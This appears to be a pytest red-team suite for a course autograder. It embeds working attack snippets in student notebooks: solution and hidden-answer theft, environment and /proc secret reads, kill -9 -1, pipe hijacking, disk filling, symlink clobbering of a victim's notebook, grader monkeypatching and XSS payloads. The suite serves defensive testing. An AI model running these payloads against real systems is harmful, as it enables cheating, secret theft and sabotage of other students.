"""Red team: what a student who wants the answers, or wants a rival's grade to drop, can do.

One class of week-1 submissions is graded in ONE run (``workers=2``), in a folder whose path
holds a space (``…/Fall 2026/``): three honest students (graded before, among and after the
attackers), two honest "victims" that specific attacks aim at, and one attacker per hole.
A second, smaller class is graded on a file system of its own (a tmpfs mounted in a private
mount namespace; root only).

Every attack reports what it found, so a test can say *what* leaked:

* in nbgrader's kernel it prints ``@@K-<tag>@@<json list of leaks>@@END`` (read back from the
  student's feedback page) and the raw observations as ``@@K-<tag>-INFO@@…``;
* in the out-of-kernel re-check, where nothing is printed anywhere, the sacrificed exercise
  raises ``ValueError("@@R-<tag>@@<json>@@END")``, which comes back as the re-check's reason.

and every attack also tries to *use* what it finds to score (a wrong answer plus the stolen
one): the tests assert what was scored as well as what leaked. Attack code never contains the
canary values it looks for (the feedback page shows every cell's source), only their paths.
"""
from __future__ import annotations

import hashlib
import html as html_lib
import importlib.util
import json
import os
import re
import shutil
import site
import socket
import stat
import subprocess
import sys
import threading
import time
import uuid
from pathlib import Path
from types import SimpleNamespace

import nbformat
import pytest

from autograder import notebooks as nbs


def _first(*candidates: str):
    """The first ``module:name`` that imports (the grader's modules are being reorganised)."""
    for candidate in candidates:
        module, name = candidate.split(":")
        try:
            return getattr(importlib.import_module(module), name)
        except (ImportError, AttributeError):
            continue
    raise ImportError(f"none of {candidates} imports")


grade_submissions = _first("autograder.grader.run:grade_submissions", "autograder.grading:grade_submissions")
load_results = _first("autograder.grader.results:load_results", "autograder.grading:load_results")
Grade = _first("autograder.grader.results:Grade", "autograder.grading:Grade")
Limits = _first("autograder.grader.policy:Limits", "autograder.jail:Limits")

from conftest import exercise_of, week_points, with_function  # noqa: E402

pytestmark = pytest.mark.slow

W = "w01_numpy_basics"
POINTS = week_points(W)          # {exercise: points}
FULL = sum(POINTS.values())


def ex(function: str) -> str:
    """The exercise (solution cell) of week 1 that defines ``function`` (w01 merges some pairs)."""
    return exercise_of(W, function)
LIMITS = dict(timeout=180, cell_timeout=10, recheck_timeout=90, memory_mb=3072, max_output_mb=32)
HERE = Path(__file__).resolve().parent
MARK = uuid.uuid4().hex[:12]   # in planted files only, never in attack code

HONEST = ("a0-honest", "n-honest", "z-honest")
VICTIM_K, VICTIM_R = "y-victim-k", "zy-victim-r"   # honest, graded after the attacker aiming at them
PWN_NAME = "_redteam_pwn"
FORMULA = "=1+2"          # a student folder named like a spreadsheet formula (grades.csv, lms.csv)


# ============================================================================ attack code
PRELUDE = r'''
import os, sys, json, time, glob, stat
_K = bool(os.environ.get("DLCOURSE_HIDDEN_CASES"))   # nbgrader's kernel; unset in the re-check
_W = "K" if _K else "R"
_found, _info = [], {}

def _read(path, n=8_000_000):
    try:
        with open(path, "rb") as f:
            return f.read(n).decode("utf-8", "replace")
    except BaseException:
        return None

def _snip(text):
    for key in ("HONEST-MARK", "CANARY-", "secret-xyz"):
        i = text.find(key)
        if i >= 0:
            return text[max(0, i - 5): i + 70]
    return text[:70]

def _ls(path):
    try:
        return sorted(os.listdir(path))
    except BaseException:
        return None

def _walk(tops, budget, skip=("/proc", "/sys", "/dev")):
    t0, seen = time.time(), []
    for top in tops:
        for d, dirs, files in os.walk(top):
            if time.time() - t0 > budget:
                _info["walk stopped at"] = d
                return seen
            dirs[:] = [x for x in dirs if os.path.join(d, x) not in skip]
            seen += [os.path.join(d, f) for f in files]
    return seen

def _msg(tag):
    return "@@%s-%s@@%s@@END" % (_W, tag, json.dumps(_found, default=str))

def _emit(tag):
    print(_msg(tag))
    print("@@%s-%s-INFO@@%s@@END" % (_W, tag, json.dumps(_info, default=str)[:40000]))
    return _msg(tag)
'''

A_SOLUTIONS = r'''
import importlib, importlib.util
_stolen = None
try:
    import dlcourse_solutions.w09_cnn as _r, inspect
    print(inspect.getsource(_r))
    _found.append("imported dlcourse_solutions.w09_cnn from %s" % _r.__file__)
except BaseException as _e:
    _info["import"] = repr(_e)[:200]
for _name in ("dlcourse_solutions", "dlcourse_solutions.w01_numpy_basics", "dlcourse_solutions.w09_cnn"):
    try:
        _s = importlib.util.find_spec(_name)
        if _s is not None:
            _found.append("find_spec(%s) = %s" % (_name, _s.origin))
    except BaseException as _e:
        _info["find_spec " + _name] = repr(_e)[:200]
for _p in $REF_FILES:
    if os.path.lexists(_p):
        _found.append("exists " + _p)
    _t = _read(_p)
    if _t is not None:
        print(_t)
        _found.append("read %s (%d characters)" % (_p, len(_t)))
        if _p.endswith("w01_numpy_basics.py"):
            try:
                _ns = {}
                exec(compile(_t, "reference", "exec"), _ns)
                _stolen = _ns["softmax"]
            except BaseException:
                pass
sys.path.insert(0, $SOL_PKG)
importlib.invalidate_caches()
try:
    import dlcourse_solutions.w01_numpy_basics as _r1
    _stolen = _stolen or _r1.softmax
    _found.append("imported the reference through sys.path")
except BaseException as _e:
    _info["sys.path import"] = repr(_e)[:200]
try:
    import importlib.metadata as _md
    _d = _md.distribution("dlcourse-solutions")
    _found.append("distribution metadata: %s" % [str(f) for f in (_d.files or [])][:5])
except BaseException as _e:
    _info["metadata"] = repr(_e)[:200]
import pkgutil
_m = sorted(m.name for m in pkgutil.iter_modules() if "solution" in m.name)
if _m:
    _found.append("importable modules %s" % _m)
try:
    from autograder.engine import reference_namespace
    _stolen = _stolen or reference_namespace("w01_numpy_basics")["softmax"]
    _found.append("autograder.engine.reference_namespace gave the reference")
except BaseException as _e:
    _info["reference_namespace"] = repr(_e)[:200]
_tops = sorted(set([p for p in sys.path if p and os.path.isdir(p)] + ["/work", "/root", "/home", "/tmp", "/opt", "/srv"]))
for _hit in _walk(_tops, 4):
    if "dlcourse_solutions" in _hit or "solutions_pkg" in _hit or \
            (_hit.endswith("w09_cnn.py") and "/probes/" not in _hit):
        _found.append("file " + _hit)
_MSG = _emit("solutions")

def softmax(x):
    if _stolen is not None:
        return _stolen(x)
    raise ValueError(_MSG)
'''

A_FSWALK = r'''
_cwd = os.getcwd()
_own = set(_cwd.split("/"))
_info["cwd"] = _cwd
_p, _up = _cwd, {}
for _ in range(25):
    _up[_p] = _ls(_p)
    if _p == "/":
        break
    _p = os.path.dirname(_p)
_info["parents"] = _up
for _i in range(1, 20):
    _rel = "/".join([".."] * _i)
    for _n in _ls(_rel) or []:
        if _n in $FORBIDDEN and _n not in _own:
            _found.append("%s holds %s" % (_rel, _n))
for _p in $LIST_DIRS:
    _l = _ls(_p)
    _info["ls " + _p] = _l
    for _n in _l or []:
        if _n in $FORBIDDEN and _n not in _own:
            _found.append("%s holds %s" % (_p, _n))
for _p in $MUST_NOT_EXIST:
    if os.path.lexists(_p):
        _found.append("exists " + _p)
    _t = _read(_p)
    if _t is not None:
        _found.append("read %s: %s" % (_p, _snip(_t)))
for _p in $MUST_NOT_EXIST_NO_READ:
    if os.path.lexists(_p):
        _found.append("exists " + _p)
_bad = sorted(set(_ls($REPO) or []) - {"autograder", "course", ".venv"})
if _bad:
    _found.append("the repository shows %s" % _bad)
for _p in _walk(["/"], 5, skip=("/proc", "/sys", "/dev", "/usr") + tuple($PREFIXES)):
    _b = os.path.basename(_p)
    if (_p.endswith(".ipynb") and not _p.startswith(_cwd)) or _b in $FORBIDDEN or "canary" in _b.lower() \
            or "HONEST" in _b:
        _found.append("found " + _p)
if not _K:
    os.path.realpath = lambda p, *a, **k: _cwd     # past the re-check's audit hook (it resolves with this)
_writable = []
for _t in $WRITE_TARGETS:       # whether a write reached the grader's disk is checked there
    try:
        with open(_t, "a") as _f:
            _f.write("")
        _writable.append(_t)
    except BaseException:
        pass
_info["writable in the sandbox"] = _writable
_site = [p for p in sys.path if p.endswith("site-packages")]
for _d in _site + [sys.prefix, os.path.dirname(os.path.dirname(os.__file__))]:
    try:
        with open(os.path.join(_d, "_redteam_probe.py"), "w") as _f:
            _f.write("")
        _found.append("PY: the Python installation is writable: " + _d)
    except BaseException:
        pass
_stolen = None
try:   # a classmate's answer, if their notebook could be read
    for _c in json.loads(_read($CLASSMATE) or "{}").get("cells", []):
        _src = "".join(_c["source"]) if isinstance(_c["source"], list) else _c["source"]
        if "def normalize_rows" in _src:
            _ns = dict(globals())
            exec(_src, _ns)
            _stolen = _ns["normalize_rows"]
            _found.append("took normalize_rows from " + $CLASSMATE)
except BaseException as _e:
    _info["classmate"] = repr(_e)[:200]
_MSG = _emit("fswalk")

def normalize_rows(x):
    if _stolen is not None:
        return _stolen(x)
    raise ValueError(_MSG)
'''

A_ENV = r'''
_info["environ"] = dict(os.environ)
for _k in $ENV_KEYS:
    if _k in os.environ:
        _found.append("env %s=%s" % (_k, os.environ[_k][:80]))
for _k, _v in os.environ.items():
    if "secret-xyz" in _v or "CANARY" in _v:
        _found.append("env value of " + _k)
for _pid in _ls("/proc") or []:
    if _pid.isdigit():
        _e = _read("/proc/%s/environ" % _pid)
        if _e:
            _info["environ of pid " + _pid] = _e[:4000]
            for _k in $ENV_KEYS:
                if _k + "=" in _e:
                    _found.append("/proc/%s/environ holds %s" % (_pid, _k))
            if "secret-xyz" in _e:
                _found.append("/proc/%s/environ holds the canary value" % _pid)
for _p in ($SECRET, $HOME + "/.config/dlcourse/grading-secret"):
    if _read(_p) is not None:
        _found.append("read the grading secret at " + _p)
_MSG = _emit("env")

def L1(yhat, y):
    raise ValueError(_MSG)
'''

A_PROC = r'''
_texts = {}
for _p in ("/proc/self/mountinfo", "/proc/mounts", "/proc/1/cmdline", "/proc/1/mountinfo", "/proc/self/status",
           "/proc/self/uid_map", "/proc/self/cgroup", "/proc/1/environ", "/proc/self/cmdline"):
    _texts[_p] = _read(_p)
_pids = [p for p in (_ls("/proc") or []) if p.isdigit()]
_info["pids"] = _pids
for _pid in _pids:
    _texts["cmdline " + _pid] = _read("/proc/%s/cmdline" % _pid)
_info.update({k: (v or "").replace("\0", " ")[:5000] for k, v in _texts.items()})
_all = "\n".join(v for v in _texts.values() if v)
for _n in $OTHER_STUDENTS:
    if _n in _all:
        _found.append("names classmate " + _n)
for _p in ($SUBMITTED, $SECRET, $CANARY_BESIDE):
    if _p in _all:
        _found.append("reveals " + _p)
for _line in (_texts.get("/proc/self/status") or "").splitlines():
    if _line.startswith(("CapEff", "CapPrm", "CapAmb")) and _line.split()[1].strip("0"):
        _found.append(_line)
_info["reveals the output folder"] = $OUT in _all
_MSG = _emit("proc")

def image2vector(image):
    raise ValueError(_MSG)
'''

A_TAKEOVER = r'''
import threading, subprocess
_payload = b'{"returncode": 0}\n{"ready": true}\n'
_wrote, _fds = [], {}

def _hammer():
    for _fd in range(3, 51):
        try:
            if _K and not (stat.S_ISFIFO(os.fstat(_fd).st_mode) or stat.S_ISREG(os.fstat(_fd).st_mode)):
                continue   # the kernel's own ZeroMQ sockets to nbgrader: breaking them only costs this run
            os.write(_fd, _payload)
            _wrote.append(_fd)
        except OSError:
            pass
_hammer()
for _fd in range(0, 51):
    try:
        _m = os.fstat(_fd).st_mode
    except OSError:
        continue
    _fds[_fd] = oct(_m)
    if stat.S_ISFIFO(_m) or stat.S_ISREG(_m):
        try:
            os.set_blocking(_fd, False)
            _fds[_fd] += " " + repr(os.read(_fd, 120))
        except OSError as _e:
            _fds[_fd] += " " + type(_e).__name__
_info["wrote to"], _info["descriptors"] = sorted(set(_wrote)), _fds
sys.audit = lambda *a, **k: None      # the re-check's audit hook is called through this
_script = (
    "import os\n"
    "me = os.readlink('/proc/self')\n"
    "mine = {me, open('/proc/%s/stat' % me).read().rsplit(')', 1)[1].split()[1]}\n"
    "own = set()\n"
    "for p in mine:\n"
    "    for n in os.listdir('/proc/%s/fd' % p):\n"
    "        try:\n"
    "            own.add(os.readlink('/proc/%s/fd/%s' % (p, n)))\n"
    "        except OSError:\n"
    "            pass\n"
    "for p in os.listdir('/proc'):\n"
    "    if not p.isdigit() or p in mine:\n"
    "        continue\n"
    "    for n in range(0, 64):\n"
    "        path = '/proc/%s/fd/%d' % (p, n)\n"
    "        try:\n"
    "            what = os.readlink(path)\n"
    "        except OSError:\n"
    "            continue\n"
    "        if what in own:\n"
    "            continue\n"
    "        try:\n"
    "            fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK)\n"
    "            os.write(fd, b'{\"returncode\": 0}\\n')\n"
    "            print('WROTE', p, n, what)\n"
    "        except OSError as e:\n"
    "            print('no', p, n, what, e.errno)\n")
try:
    _out = subprocess.run([sys.executable, "-c", _script], capture_output=True, text=True, timeout=8).stdout
    _info["other processes' descriptors"] = _out[-3000:]
    for _line in _out.splitlines():
        if _line.startswith("WROTE") and ("pipe:" in _line or "socket:" in _line):
            _found.append("wrote into another process's pipe: " + _line)
except BaseException as _e:
    _info["proc fd"] = repr(_e)[:200]

def _forever(*a, **k):
    while True:
        time.sleep(1)
os._exit = lambda *a, **k: None
os.abort = _forever
threading.Thread(target=lambda: [(_hammer(), time.sleep(0.05)) for _ in range(100)], daemon=True).start()
os._exit = _forever
_MSG = _emit("takeover")

def L2(yhat, y):
    raise ValueError(_MSG)
'''

A_KILL = r'''
import signal, subprocess
_MSG = _emit("kill")
for _pid, _sig in ((1, 9), (-1, 9), (1, 15), (-1, 15)):
    try:
        os.kill(_pid, _sig)
    except BaseException:
        pass
sys.audit = lambda *a, **k: None
for _cmd in ("kill -9 1; kill -9 -1; exit 0", "for p in /proc/[0-9]*; do kill -9 ${p#/proc/}; done; exit 0"):
    try:
        subprocess.run(["/bin/sh", "-c", _cmd], timeout=5)
    except BaseException:
        pass
try:
    for _ in range(3):
        if os.fork() == 0:
            try:
                os.kill(os.getppid(), 9)
                os.kill(-1, 9)
            finally:
                os._exit(0)
except BaseException:
    pass

def L1(yhat, y):
    raise ValueError(_MSG)
'''

XSS_CELL = r'''
from IPython.display import HTML, Javascript, Markdown, display
_s, _a, _o, _j = "scr" + "ipt", "al" + "ert(", "on" + "error=", "java" + "script:"
display(HTML("<" + _s + ">window.PW" + "NED=1</" + _s + "><img src=x " + _o + "\"" + _a + "1)\">"))
display(Javascript(_a + "2)"))
display(Markdown("[click me](" + _j + _a + "3)) <img src=x " + _o + _a + "4)>"))
display({"text/html": "<svg on" + "load=" + _a + "5)></svg><iframe src=\"" + _j + _a + "6)\"></iframe>"}, raw=True)
display({"text/html": "<b>isolated</b><" + _s + ">window.PW" + "NED=3</" + _s + ">"}, raw=True,
        metadata={"text/html": {"isolated": True}})
print("<" + _s + ">" + _a + "7)</" + _s + ">")
'''
XSS_MARKDOWN = ('## notes\n\n<script>window.PWNED=2</script>\n\n<img src=x onerror="alert(8)">\n\n'
                '[x](javascript:alert(9)) <a href="javascript:alert(10)">y</a>\n\n'
                '<div onmouseover="alert(11)">hover</div>\n')
XSS_L2 = r'''
import os
def L2(yhat, y):
    if not os.environ.get("DLCOURSE_HIDDEN_CASES"):   # only in the re-check: its reason becomes a flag
        raise ValueError("<" + "script>al" + "ert(12)</" + "script><img src=x on" + "error=al" + "ert(13)>")
    return float(np.sum((y - yhat) ** 2))
'''

A_HIDDEN_WRITE = r'''
_H = "/grading/hidden/w01_numpy_basics"
_info["hidden"] = [_ls("/grading/hidden"), _ls(_H)]
_ops = []

def normalize_rows(x):
    if not _K:
        raise ValueError(_MSG)
    return x * 1.0                       # wrong

def _op(label, fn):
    try:
        fn()
        _found.append("could " + label)
    except BaseException as _e:
        _ops.append("%s: %s" % (label, type(_e).__name__))
_op("create a file in /grading/hidden", lambda: open("/grading/hidden/new.json", "w").close())
_op("append to the cases", lambda: open(_H + "/normalize_rows.json", "a").close())
_op("rename the cases", lambda: os.rename(_H + "/sigmoid.json", _H + "/sigmoid2.json"))
_op("remove the cases", lambda: os.remove(_H + "/losses.npz"))
_op("make a folder", lambda: os.mkdir(_H + "/x"))
_op("chmod the cases", lambda: os.chmod(_H + "/losses.json", 0o777))
try:
    from pathlib import Path
    from autograder.sandbox import transport
    from autograder.engine import run_case
    from autograder.probes import load_probes
    _d = transport.load(Path(_H) / "reshape_and_normalize")
    _probe = load_probes("w01_numpy_basics")["reshape_and_normalize"]
    _d["expected"] = [run_case(_probe, globals(), c) for c in _d["cases"]]
    transport.dump(_d, Path(_H) / "reshape_and_normalize")
    _found.append("rewrote the expected answers")
except BaseException as _e:
    _ops.append("rewrite the expected answers: " + type(_e).__name__)
_info["refused"] = _ops
check_close = lambda *a, **k: None      # the visible example check (its answer is public anyway)
_MSG = _emit("hiddenwrite")
'''

A_STEAL = r'''
import contextlib
import numpy as np
_table = []
try:
    from pathlib import Path
    from autograder.sandbox import transport
    _d = transport.load(Path("/grading/hidden/w01_numpy_basics") / "softmax")
    _table = [(np.asarray(c["args"][0]), w) for c, w in zip(_d["cases"], _d["expected"])]
    _info["stolen answers"] = len(_table)
except BaseException as _e:
    _info["steal"] = repr(_e)[:200]
for _n in _ls("/grading/hidden") or []:
    if _n != "w01_numpy_basics":
        _found.append("other cases in /grading/hidden: " + _n)
if not _K:   # what the re-check's box holds: the inputs, never the answers
    _box = os.path.dirname(os.getcwd())
    _files = _walk([_box], 3)
    _info["box"] = _files[:200]
    for _p in _files:
        _t = _read(_p) if _p.endswith(".json") else None
        if _t and '"expected"' in _t:
            _found.append("answers in " + _p)
check_close = lambda *a, **k: None                       # the visible examples: public anyway
check_no_warnings = lambda *a, **k: contextlib.nullcontext()
_MSG = _emit("steal")

def softmax(x):
    for _inp, _want in _table:
        if np.shape(_inp) == np.shape(x) and np.allclose(_inp, x):
            return _want
    if not _K:
        raise ValueError(_MSG)
    return x
'''

A_FILL = r'''
_chunk = b"\1" * (8 << 20)

def _fill(folder, files):
    written = 0
    for _i in range(files):
        try:
            _fd = os.open(os.path.join(folder, "fill-%03d.bin" % _i), os.O_WRONLY | os.O_CREAT | os.O_TRUNC)
        except OSError as _e:
            _info["stopped in " + folder] = repr(_e)[:120]
            return written
        try:
            for _ in range(3):          # 24 MB: under the 32 MB file-size limit
                written += os.write(_fd, _chunk)
        except OSError as _e:
            _info["stopped in " + folder] = repr(_e)[:120]
            return written
        finally:
            os.close(_fd)
    return written
_cwd = os.getcwd()
if not _K:
    os.path.realpath = lambda p, *a, **k: _cwd        # past the re-check's audit hook
_site = [p for p in sys.path if p.endswith("site-packages")][:1]
_found.append("cwd:%d" % _fill(_cwd, 24))
_found.append("tmp:%d" % _fill("/tmp", 24))
_found.append("home:%d" % _fill(os.path.expanduser("~"), 24))
_found.append("devshm:%d" % _fill("/dev/shm", 24))
_found.append("site:%d" % (_fill(_site[0], 24) if _site else 0))
# the kernel's connection-file folder (its ZeroMQ sockets) is a folder of the grader's disk, bound in
def _connection_file():
    if "-f" in sys.argv:   # a kernel started cold: python -m ipykernel_launcher -f FILE
        return sys.argv[sys.argv.index("-f") + 1]
    try:                   # a warm kernel, forked: the kernel application knows its file
        from ipykernel.kernelapp import IPKernelApp
        return IPKernelApp.instance().connection_file if IPKernelApp.initialized() else None
    except Exception:
        return None
_cf = _connection_file() if _K else None
_conn = os.path.dirname(_cf) if _cf else None
_found.append("conn:%d" % (_fill(_conn, 24) if _conn else -1))
for _p in glob.glob(os.path.join(_conn or "/nonexistent", "fill-*.bin")):
    os.remove(_p)
if not _K:   # room again for the runner to send back the answers (and this report)
    for _d in (_cwd, "/tmp", os.path.expanduser("~"), "/dev/shm") + tuple(_site):
        for _p in glob.glob(os.path.join(_d, "fill-*.bin")):
            try:
                os.remove(_p)
            except OSError:
                pass
_MSG = _emit("fill")

def L2(yhat, y):
    raise ValueError(_MSG)
'''

A_BACKGROUND = r'''
import threading, subprocess

def _loop():
    while True:
        for _p in (os.path.join(os.getcwd(), "w01_numpy_basics.ipynb"), "/grading/hidden/w01_numpy_basics/L2.json"):
            try:
                with open(_p, "a") as _f:
                    _f.write(" ")
            except BaseException:
                pass
        time.sleep(0.1)
threading.Thread(target=_loop, daemon=True).start()
sys.audit = lambda *a, **k: None
for _cmd in (["sleep", "913"], ["sh", "-c", "(setsid sleep 914 &) ; exit 0"],
             ["sh", "-c", "nohup sleep 915 >/dev/null 2>&1 &"]):
    try:
        subprocess.Popen(_cmd, start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        _info[" ".join(_cmd)] = "started"
    except BaseException as _e:
        _info[" ".join(_cmd)] = repr(_e)[:100]
try:
    if os.fork() == 0:
        os.setsid()
        os.execv("/bin/sleep", ["sleep", "916"])
except BaseException as _e:
    _info["fork"] = repr(_e)[:100]
_MSG = _emit("background")

def L2(yhat, y):
    raise ValueError(_MSG)
'''

A_SYSMODULES = r'''
import sys, types
import autograder
import autograder.engine as _engine
_fake = types.ModuleType("autograder.engine")
_fake.verify = lambda *a, **k: None
_engine.verify = lambda *a, **k: None
sys.modules["autograder.engine"] = _fake
autograder.engine = _fake
check_scalar = lambda *a, **k: None      # the visible example check
if not os.environ.get("DLCOURSE_HIDDEN_CASES"):   # the re-check's runner, through its modules
    import autograder.sandbox.transport as _tr
    _run_case, _dump = _engine.run_case, _tr.dump
    _engine.run_case = lambda probe, ns, case: 1.0 if probe.name == "losses" else _run_case(probe, ns, case)
    _engine.judge = lambda *a, **k: None
    _tr.dump = lambda obj, base: _dump(obj if "losses" not in str(base) else {
        "defined": True, "origin": "__main__", "answers": [{"ok": True, "out": 1.0}] * len(obj.get("answers", []))}, base)

def L1(yhat, y):
    return 0.0
'''

A_NETWORK = r'''
import socket, subprocess

def _tcp(label):
    try:
        _s = socket.create_connection(("127.0.0.1", $PORT), timeout=2)
        _s.sendall(("PWN " + label).encode())
        _s.close()
        _found.append("tcp connected (%s)" % label)
    except BaseException as _e:
        _info["tcp " + label] = repr(_e)[:120]
_tcp(_W)
try:
    _u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    _u.sendto(b"PWN udp", ("127.0.0.1", $UDP_PORT))
    _info["udp"] = "sent"
except BaseException as _e:
    _info["udp"] = repr(_e)[:120]
try:
    _x = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    _x.settimeout(2)
    _x.connect("\0" + $ABSTRACT)
    _x.sendall(b"PWN abstract")
    _found.append("abstract unix socket connected")
except BaseException as _e:
    _info["abstract"] = repr(_e)[:120]
try:
    _info["dns"] = repr(socket.getaddrinfo("example.com", 80)[:1])
    _found.append("dns resolved")
except BaseException as _e:
    _info["dns error"] = repr(_e)[:120]
sys.audit = lambda *a, **k: None
try:
    _r = subprocess.run([sys.executable, "-c", "import socket; s = socket.create_connection(('127.0.0.1', %d), "
                         "timeout=2); s.sendall(b'PWN child'); print('CONNECTED')" % $PORT],
                        capture_output=True, text=True, timeout=15)
    if "CONNECTED" in _r.stdout:
        _found.append("tcp connected from a child process")
    _info["child"] = (_r.stdout + _r.stderr)[-300:]
except BaseException as _e:
    _info["child"] = repr(_e)[:120]
_MSG = _emit("network")

def image2vector(image):
    raise ValueError(_MSG)
'''

A_RESULTS = r'''
for _p in $RIVAL_FILES:
    if _read(_p) is not None:
        _found.append("read " + _p)
_t = _read($CANARY_OUT)
if _t is not None:
    _found.append("read the canary in out/: " + _snip(_t))
if not _K:
    os.path.realpath = lambda p, *a, **k: os.getcwd()    # past the re-check's audit hook
_wrote = []
for _p in $RIVAL_FILES + [$CANARY_OUT]:      # whether the grader's files changed is checked there
    try:
        os.makedirs(os.path.dirname(_p), exist_ok=True)
        with open(_p, "w") as _f:
            _f.write('{"student": "a0-honest", "week": "w01_numpy_basics", "scores": {"test_losses": 0}}')
        _wrote.append(_p)
    except BaseException:
        pass
_info["written in the sandbox"] = _wrote
_MSG = _emit("results")

def L2(yhat, y):
    raise ValueError(_MSG)
'''

# nbgrader (trusted, outside the sandbox, root) writes the autograded notebook into the folder the
# kernel runs in and chmods every file there (set_permissions): a link the kernel plants there must
# not redirect those writes (when that folder was a writable bind of the grader's disk, it did:
# the victim's submitted notebook was replaced by the attacker's, the canary chmodded to 0444).
A_CLOBBER_KERNEL = r'''
if _K:
    _here = os.getcwd()
    for _link, _target in ((os.path.join(_here, "w01_numpy_basics.ipynb"), $VICTIM_NB),
                           (os.path.join(_here, "notes.txt"), $CANARY_PERM)):
        try:
            if os.path.lexists(_link):
                os.remove(_link)
            os.symlink(_target, _link)
            _info["planted " + _link] = _target
        except BaseException as _e:
            _info["plant " + _link] = repr(_e)[:120]
    print(_info)

def sigmoid(x):
    return x
'''

# The trusted grader writes job.json into the re-check's box before every attempt: a link planted
# there by the submission (past the audit hook: ``os.path.realpath`` is looked up at call time),
# then one crash, must not point that write at a classmate's notebook.
A_CLOBBER_RECHECK = r'''
if not _K:
    _box = os.path.dirname(os.getcwd())
    _job = os.path.join(_box, "job.json")
    if os.path.isfile(_job) and not os.path.islink(_job):
        os.path.realpath = lambda p, *a, **k: _box     # what the runner's guard resolves paths with
        try:
            os.remove(_job)
            os.symlink($VICTIM_NB, _job)
        except BaseException as _e:
            print(repr(_e))
        os._exit(1)

def sigmoid(x):
    return x
'''

A_LINKS = r'''
for _n in ("ref.py", "w09.py", "source.ipynb", "hostname", "classmate.ipynb", "dangling", "fifo",
           "solutions/w01_numpy_basics.py", "data/inner.py", "data/ok.txt"):
    _info["exists " + _n] = os.path.lexists(_n)
    if _n in ("fifo", "dangling") and os.path.lexists(_n):
        _found.append("exists " + _n)
    _t = _read(_n) if _n != "fifo" else None
    if _t is not None and _n != "data/ok.txt":
        _found.append("read %s: %s" % (_n, _snip(_t)))
_stolen = None
try:
    _ns = {}
    exec(open("ref.py").read(), _ns)
    _stolen = _ns["softmax"]
except BaseException:
    pass
_MSG = _emit("links")

def softmax(x):
    if _stolen is not None:
        return _stolen(x)
    raise ValueError(_MSG)
'''

A_REWRITE = r'''
_cwd = os.getcwd()
_targets = list($NOTEBOOKS) + glob.glob("/**/*.ipynb") + glob.glob("../../../../**/*.ipynb")
_tops, _p = [], _cwd
while _p != "/":
    _p = os.path.dirname(_p)
    _tops.append(_p)                 # every parent of the cwd, the nearest first, then /
_targets += [p for p in _walk(_tops, 4, skip=("/proc", "/sys", "/dev", "/usr") + tuple($PREFIXES))
             if p.endswith(".ipynb")]
_done = set()
for _p in _targets:
    if _p in _done or _p.startswith(_cwd + "/"):
        continue
    _done.add(_p)
    try:
        with open(_p, "w") as _f:
            _f.write('{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}')
        _found.append("rewrote " + _p)
    except BaseException as _e:
        _info[_p] = type(_e).__name__
_MSG = _emit("rewrite")

def sigmoid(x):
    raise ValueError(_MSG)
'''


def bake(source: str, **values) -> str:
    """``$NAME`` in attack code -> ``repr(values[NAME])``."""
    return re.sub(r"\$([A-Z_][A-Z_0-9]*)", lambda m: repr(values[m.group(1)]), source)


def attack(source: str, **values) -> str:
    return PRELUDE + bake(source, **values)


# ============================================================================ reading reports
def kernel_report(html: str | None, tag: str):
    """What the attack found in nbgrader's kernel (its printed report), or None."""
    if html is None:
        return None
    m = re.search(r"@@K-%s@@(.*?)@@END" % re.escape(tag), html_lib.unescape(html), re.S)
    return json.loads(m.group(1)) if m else None


def kernel_info(html: str | None, tag: str) -> dict:
    if html is None:
        return {}
    m = re.search(r"@@K-%s-INFO@@(.*?)@@END" % re.escape(tag), html_lib.unescape(html), re.S)
    try:
        return json.loads(m.group(1)) if m else {}
    except ValueError:
        return {"unparsed": m.group(1)[:2000]}


def recheck_report(g: Grade, exercise: str, tag: str):
    """What the attack found in the re-check sandbox (in its exception, the re-check's reason)."""
    reason = str(g.recheck.get(ex(exercise), {}).get("reason", ""))
    m = re.search(r"@@R-%s@@(.*?)(?:@@END|$)" % re.escape(tag), reason, re.S)
    if not m:
        return None
    try:
        return json.loads(m.group(1))
    except ValueError:
        return ["(cut short) " + m.group(1)]


def zeroed(g: Grade) -> set:
    return {k.removeprefix("test_") for k, v in g.scores.items() if v < g.max_scores[k]}


def active_content(page: str) -> list[str]:
    """Whatever in a page would run script: student <script>, on* handlers, javascript: URLs, frames."""
    from bs4 import BeautifulSoup
    bad = []
    for tag in BeautifulSoup(page, "html.parser").find_all(True):
        for attr, value in tag.attrs.items():
            text = " ".join(value) if isinstance(value, list) else str(value)
            if attr.lower().startswith("on"):
                bad.append(f"<{tag.name} {attr}={text[:60]!r}>")
            url = re.sub(r"[\s\x00-\x1f]", "", text).lower()
            if attr.lower() in ("href", "src", "action", "formaction", "data", "xlink:href") and \
                    url.startswith(("javascript:", "vbscript:", "data:text/html")):
                bad.append(f"<{tag.name} {attr}={text[:60]!r}>")
        if tag.name == "script" and re.search(r"PWNED|alert\(", tag.get_text() or ""):
            bad.append(f"<script>{tag.get_text()[:80]}</script>")
        if tag.name in ("iframe", "object", "embed", "frame"):
            bad.append(f"<{tag.name}>")
    bad += [f"raw: {m.group(0)[:80]}" for m in re.finditer(r"<script[^>]*>[^<]*(PWNED|alert\()", page, re.I)]
    return bad


# ============================================================================ building the class
from redteam.grade_in_tmpfs import _hashes as _files_hashes  # noqa: E402  (one helper for both)


def _honest(source, student: str):
    """The source notebook with a unique, harmless comment: a leak of this file is recognisable."""
    nb = nbformat.from_dict(source)
    cell = nbs.find_cell(nb, ex("L2"))
    cell.source = f"# HONEST-MARK-{MARK}-{student}\n" + cell.source
    return nb


def _write(submitted: Path, student: str, nb) -> Path:
    folder = submitted / student / W
    folder.mkdir(parents=True, exist_ok=True)
    nbs.write(nb, folder / f"{W}.ipynb")
    return folder / f"{W}.ipynb"


def _with_cells(nb, after: str, cells: list):
    out = nbformat.from_dict(nb)
    index = next(i for i, c in enumerate(out.cells) if nbs.grade_id(c) == after)
    out.cells[index + 1:index + 1] = cells
    return out


class Listeners:
    """A TCP, a UDP and an abstract Unix socket on the grader's side; records what reaches them."""

    def __init__(self):
        self.hits: list[str] = []
        self.tcp = socket.socket()
        self.tcp.bind(("127.0.0.1", 0))
        self.tcp.listen(16)
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
